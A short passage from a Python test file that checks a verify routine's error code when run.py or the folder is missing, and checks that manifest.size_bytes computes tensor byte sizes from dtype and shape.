    (folder / "run.py").unlink()
    assert verify(folder, capsys)[0] == 2
    assert verify(folder / "missing", capsys)[0] == 2


def test_a_tensor_takes_what_its_shape_says() -> None:
    assert manifest.size_bytes(Tensor("x", "float16", (3, 5))) == 30
    assert manifest.size_bytes(Tensor("x", "bool", ())) == 1
